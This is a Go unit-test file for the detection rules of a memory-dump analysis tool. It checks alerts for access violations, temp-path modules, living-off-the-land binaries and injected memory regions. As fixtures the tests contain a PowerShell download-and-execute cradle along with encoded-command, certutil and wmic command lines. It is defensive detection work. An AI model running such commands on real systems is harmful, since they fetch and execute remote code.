package rules

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ineffectivecoder/DumpGooser/pkg/minidump"
	"github.com/ineffectivecoder/DumpGooser/pkg/model"
)

func TestAccessViolation(t *testing.T) {
	r := &model.MinidumpReport{Exception: &model.ExceptionInfo{
		ThreadID: 4321,
		Code:     0xC0000005,
		Address:  0x7FF812345678,
	}}

	dets := Evaluate(r)
	require.Len(t, dets, 1)
	assert.Equal(t, model.High, dets[0].Severity)
	assert.Equal(t, "Access violation", dets[0].Title)
	assert.Equal(t, "Exception code 0xC0000005 at address 0x00007FF812345678 (thread_id=4321).", dets[0].Details)

	r.Exception.Code = 0x80000003
	assert.Empty(t, Evaluate(r))
}

func TestTempModules(t *testing.T) {
	r := &model.MinidumpReport{Modules: []model.ModuleInfo{
		{Name: `C:\Windows\System32\ntdll.dll`},
		{Name: `C:\Users\bob\AppData\Local\Temp\evil.dll`},
		{Name: `/tmp/libx.so`},
		{Name: `C:\TEMP\stage.dll`},
	}}

	dets := Evaluate(r)
	require.Len(t, dets, 3)
	for _, d := range dets {
		assert.Equal(t, model.Warning, d.Severity)
		assert.Equal(t, "Module loaded from temp path", d.Title)
	}
	assert.Equal(t, `Module: C:\Users\bob\AppData\Local\Temp\evil.dll`, dets[0].Details)
	assert.Equal(t, `Module: C:\TEMP\stage.dll`, dets[2].Details)
}

func TestExecArtifact(t *testing.T) {
	tests := []struct {
		name     string
		art      model.ProcessExecArtifact
		fires    bool
		severity model.Severity
		details  string
	}{
		{
			name: "not a lolbin",
			art:  model.ProcessExecArtifact{Image: "notepad.exe", CommandLine: "notepad.exe readme.txt"},
		},
		{
			name:     "plain lolbin",
			art:      model.ProcessExecArtifact{Image: "cmd.exe", CommandLine: "cmd.exe /c whoami"},
			fires:    true,
			severity: model.Warning,
			details:  "Image: cmd.exe\nCommand line: cmd.exe /c whoami",
		},
		{
			name:     "encoded powershell",
			art:      model.ProcessExecArtifact{Image: "powershell.exe", CommandLine: "powershell.exe -enc AAAA"},
			fires:    true,
			severity: model.High,
			details:  "Reasons: encoded command\nImage: powershell.exe\nCommand line: powershell.exe -enc AAAA",
		},
		{
			name: "download cradle",
			art: model.ProcessExecArtifact{
				Image:       "powershell",
				CommandLine: `powershell IEX (New-Object Net.WebClient).DownloadString('https://x/a.ps1')`,
			},
			fires:    true,
			severity: model.High,
			details: "Reasons: in-memory execution pattern, network indicator\nImage: powershell\n" +
				`Command line: powershell IEX (New-Object Net.WebClient).DownloadString('https://x/a.ps1')`,
		},
		{
			name:     "lolbin only in command line",
			art:      model.ProcessExecArtifact{Image: "C:\\x\\run.bat", CommandLine: `C:\x\run.bat certutil -f C:\Temp\a`},
			fires:    true,
			severity: model.High,
			details:  "Reasons: temp path\nImage: C:\\x\\run.bat\nCommand line: C:\\x\\run.bat certutil -f C:\\Temp\\a",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			det, ok := ExecArtifact(tt.art)
			require.Equal(t, tt.fires, ok)
			if !ok {
				return
			}
			assert.Equal(t, "Suspicious execution artifact", det.Title)
			assert.Equal(t, tt.severity, det.Severity)
			assert.Equal(t, tt.details, det.Details)
		})
	}
}

func TestInjectedRegionDetails(t *testing.T) {
	det := InjectedRegion(model.InjectedRegion{
		Base:       0x150000000,
		Size:       0x2000,
		Protection: minidump.PageExecuteReadWrite,
		Type:       minidump.MemPrivate,
		State:      minidump.MemCommit,
		Reasons:    []string{"a", "b"},
		Risk:       model.High,
	})
	assert.Equal(t, model.High, det.Severity)
	assert.Equal(t, "base=0x0000000150000000 size=0x2000\n"+
		"protection=PAGE_EXECUTE_READWRITE\ntype=MEM_PRIVATE\nstate=MEM_COMMIT\n\n"+
		"Reasons:\n- a\n- b", det.Details)

	empty := InjectedRegion(model.InjectedRegion{Risk: model.Warning})
	assert.Contains(t, empty.Details, "Reasons:\n- (none)")
}

func TestOutputOrder(t *testing.T) {
	r := &model.MinidumpReport{
		InjectedRegions: []model.InjectedRegion{
			{Base: 0x2000, Size: 0x2000, Risk: model.High},
			{Base: 0x1000, Size: 0x1000, Risk: model.Warning},
		},
		ExecArtifacts: []model.ProcessExecArtifact{{Image: "wmic", CommandLine: "wmic process call create x"}},
		Modules:       []model.ModuleInfo{{Name: "/tmp/a.so"}},
		Exception:     &model.ExceptionInfo{Code: AccessViolation},
	}

	dets := Evaluate(r)
	require.Len(t, dets, 5)
	assert.Equal(t, "Access violation", dets[0].Title)
	assert.Equal(t, "Module loaded from temp path", dets[1].Title)
	assert.Equal(t, "Suspicious execution artifact", dets[2].Title)
	assert.Equal(t, model.High, dets[3].Severity)
	assert.Contains(t, dets[3].Details, "size=0x2000")
	assert.Equal(t, model.Warning, dets[4].Severity)

	counts := Counts(dets)
	assert.Equal(t, 2, counts[model.High])
	assert.Equal(t, 3, counts[model.Warning])
	assert.Equal(t, 0, counts[model.Info])
}

func TestEvaluateNil(t *testing.T) {
	assert.Nil(t, Evaluate(nil))
}
